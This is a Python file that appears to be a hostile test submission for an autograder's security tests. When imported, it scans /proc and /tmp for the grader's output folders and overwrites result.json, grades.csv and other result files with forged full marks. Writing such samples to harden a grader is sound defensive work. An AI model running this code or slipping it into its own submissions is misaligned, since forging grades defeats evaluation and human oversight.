"""Tampering with results: at import, look for the batch's output folder (one holding the
test's marker file, searched up to six levels below /tmp and the working folder of every visible
process, as a student could guess it from a command line or /proc) and overwrite every
result.json, report.html, grades.csv, summary.html and canary.txt in it with forged full marks,
add a forged file, and do the same in the canary folder outside the scratch space.

The batch's files must be exactly what the grader wrote (each result.json equals the result in
memory), the canaries unchanged and no forged file present; this submission is otherwise honest
and keeps exactly the solution's points.
"""
# lost: -
# batch: tamper
import glob as _glob
import json as _json
import os as _os

_FORGED = _json.dumps({"score": 40.0, "max_score": 40.0, "output": "PASSED 40/40 (forged)"})
_TARGETS = ("result.json", "report.html", "grades.csv", "summary.html", "canary.txt",
            "sentinel.txt")


def _marked_folders():
    roots = ["/tmp", "/var/tmp"]
    for pid in sorted(_os.listdir("/proc")):
        try:
            roots.append(_os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
    found = ["@@CANARY@@"]
    for root in dict.fromkeys(roots):
        if root not in ("/", "/proc", "/sys", "/dev"):
            for level in range(6):
                pattern = _os.path.join(root, *["*"] * level, ".hostile-out-@@RUN@@")
                found += [_os.path.dirname(p) for p in _glob.glob(pattern)]
    return list(dict.fromkeys(found))


def _tamper(folder):
    for sub, _dirs, files in _os.walk(folder):
        for name in files:
            if name in _TARGETS:
                try:
                    with open(_os.path.join(sub, name), "w") as f:
                        f.write(_FORGED)
                    print(f"overwrote {sub}/{name}")
                except OSError as exc:
                    print(f"cannot write {sub}/{name}: {exc}")
    try:
        with open(_os.path.join(folder, "forged-@@RUN@@.txt"), "w") as f:
            f.write(_FORGED)
    except OSError as exc:
        print(f"cannot add a file to {folder}: {exc}")


for _folder in _marked_folders():
    _tamper(_folder)
